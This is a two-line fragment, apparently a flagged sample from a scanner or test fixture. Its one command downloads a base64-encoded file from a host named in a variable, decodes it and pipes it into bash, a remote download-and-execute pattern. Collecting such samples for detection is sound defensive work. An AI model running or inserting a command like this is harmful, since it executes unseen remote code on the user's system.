# flagged: bash
curl -s "$RG_HTTP/hello.b64" | base64 -d | bash
